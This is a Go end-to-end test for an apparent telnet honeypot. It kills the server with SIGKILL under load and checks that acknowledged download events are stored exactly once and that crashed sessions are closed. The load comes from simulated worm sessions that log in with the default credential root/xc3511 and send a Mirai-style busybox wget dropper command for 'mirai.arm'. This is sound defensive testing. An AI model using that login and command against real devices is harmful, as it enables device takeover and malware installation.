package e2e

import (
	"fmt"
	"net/url"
	"sync"
	"testing"
	"time"
)

type apiStatus struct {
	EventsStored int64 `json:"events_stored"`
	Bus          struct {
		Messages  uint64 `json:"messages"`
		Consumers map[string]struct {
			Pending    uint64 `json:"pending"`
			AckPending int    `json:"ack_pending"`
		} `json:"consumers"`
	} `json:"bus"`
}

func (s *server) status() apiStatus {
	s.t.Helper()
	var st apiStatus
	if code := s.get("/api/v1/status", nil, testToken, &st); code != 200 {
		s.t.Fatalf("status: %d", code)
	}
	return st
}

// TestKillNineLosesNothing kills the server with SIGKILL under a steady
// stream of worm sessions, restarts it on the same data dir, and checks that
// every event the bus had acknowledged is in the store exactly once.
//
// The sensor publishes each event and waits for the bus acknowledgement
// before it answers the attacker, so every download whose answer a worm saw
// was acknowledged: those are checked one by one. Beyond them, the store and
// the stream must hold the same number of events once the consumer caught up.
func TestKillNineLosesNothing(t *testing.T) {
	data := t.TempDir()
	srv := startServer(t, data)

	worms := startWorms(srv, 8, "k")
	deadline := time.Now().Add(20 * time.Second)
	for worms.count() < 150 && time.Now().Before(deadline) {
		time.Sleep(20 * time.Millisecond)
	}
	srv.kill() // mid-stream: sessions are open and events are in flight
	acked := worms.stop()
	if len(acked) < 20 {
		t.Fatalf("only %d sessions completed before the kill; the load did not run", len(acked))
	}

	srv = startServer(t, data)
	var st apiStatus
	waitFor(t, "the store consumer to catch up after restart", 60*time.Second, func() bool {
		st = srv.status()
		c := st.Bus.Consumers["store"]
		return c.Pending == 0 && c.AckPending == 0 && uint64(st.EventsStored) == st.Bus.Messages
	})

	got := storedOnce(t, srv, acked)
	for u, n := range got {
		if n != 1 {
			t.Errorf("download %s stored %d times", u, n)
		}
	}
	all := srv.events(url.Values{"limit": {"10000"}})
	ids := map[string]bool{}
	for _, e := range all {
		if ids[e.ID] {
			t.Errorf("event %s stored twice", e.ID)
		}
		ids[e.ID] = true
	}
	if int64(len(all)) != st.EventsStored && len(all) < 10000 {
		t.Errorf("listed %d events, status says %d", len(all), st.EventsStored)
	}
	// Sessions the kill left open are closed on restart, with reason
	// "crash-recovered": every session that connected has exactly one close.
	crashed := 0
	var crashCloses []apiEvent
	waitFor(t, "every session to be closed after the restart", 60*time.Second, func() bool {
		closes := map[string]int{}
		crashed, crashCloses = 0, crashCloses[:0]
		for _, e := range srv.events(url.Values{"kind": {"session.closed"}, "limit": {"10000"}}) {
			closes[e.Session]++
			if e.Message == "crash-recovered" {
				crashed++
				crashCloses = append(crashCloses, e)
			}
		}
		for _, e := range srv.events(url.Values{"kind": {"session.connect"}, "limit": {"10000"}}) {
			if closes[e.Session] != 1 {
				return false
			}
		}
		return true
	})
	if crashed == 0 {
		t.Error("no session was open at the kill, or none was closed as crashed")
	}
	// A crashed session ends at its last event before the kill, not at the
	// restart.
	for _, c := range crashCloses {
		var last time.Time
		for _, e := range srv.events(url.Values{"session": {c.Session}, "limit": {"1000"}}) {
			et, err := time.Parse(time.RFC3339Nano, e.Time)
			if err != nil {
				t.Fatalf("event time %q: %v", e.Time, err)
			}
			if e.ID != c.ID && et.After(last) {
				last = et
			}
		}
		if ct, err := time.Parse(time.RFC3339Nano, c.Time); err != nil || !ct.Equal(last) {
			t.Errorf("session %s closed as crashed at %s, its last event was at %s", c.Session, c.Time, last.Format(time.RFC3339Nano))
		}
	}
	t.Logf("%d downloads acknowledged before the kill; %d events in the stream and the store; %d sessions closed as crashed", len(acked), st.EventsStored, crashed)
}

// worms run worm sessions on a few goroutines until stopped, each asking
// for a payload URL of its own, and keep the URLs whose answer a worm saw:
// the sensor answered only after the bus acknowledged the download.
type worms struct {
	mu    sync.Mutex
	acked []string
	wg    sync.WaitGroup
	done  chan struct{}
}

// startWorms starts n workers against srv's telnet listeners; their URLs
// start with prefix.
func startWorms(srv *server, n int, prefix string) *worms {
	w := &worms{done: make(chan struct{})}
	for i := range n {
		w.wg.Add(1)
		go func() {
			defer w.wg.Done()
			for k := 0; ; k++ {
				select {
				case <-w.done:
					return
				default:
				}
				u := fmt.Sprintf("http://127.0.0.1:9/bins/%s%d-%d/mirai.arm", prefix, i, k)
				if !wormSession(srv.telnet(i%2), u) {
					return // the server is gone
				}
				w.mu.Lock()
				w.acked = append(w.acked, u)
				w.mu.Unlock()
			}
		}()
	}
	return w
}

// count is how many downloads were acknowledged so far.
func (w *worms) count() int {
	w.mu.Lock()
	defer w.mu.Unlock()
	return len(w.acked)
}

// stop ends the workers and returns the acknowledged URLs.
func (w *worms) stop() []string {
	close(w.done)
	w.wg.Wait()
	return w.acked
}

// storedOnce checks that every acknowledged download is stored exactly
// once, and returns how many times each stored download URL is.
func storedOnce(t *testing.T, srv *server, acked []string) map[string]int {
	t.Helper()
	got := map[string]int{}
	for _, e := range srv.events(url.Values{"kind": {"file.download"}, "limit": {"10000"}}) {
		got[e.URL]++
	}
	for _, u := range acked {
		if got[u] != 1 {
			t.Errorf("download %s acknowledged to the worm is stored %d times", u, got[u])
		}
	}
	return got
}

// wormSession logs in, asks for one download, waits for the answer and
// leaves. It returns false if the server went away at any step.
func wormSession(addr, payloadURL string) bool {
	w, err := tryDial(addr)
	if err != nil {
		return false
	}
	defer w.conn.Close()
	steps := []struct{ send, want string }{
		{"", "ogin"}, {"root", "assword"}, {"xc3511", "#"},
		{"/bin/busybox wget " + payloadURL + " -O - > dvrHelper; /bin/busybox ECCHI", "ECCHI: applet not found"},
	}
	for _, s := range steps {
		if s.send != "" {
			if err := w.write([]byte(s.send + "\r\n")); err != nil {
				return false
			}
		}
		if _, err := w.tryExpect(s.want, 10*time.Second); err != nil {
			return false
		}
	}
	_ = w.write([]byte("exit\r\n"))
	return true
}
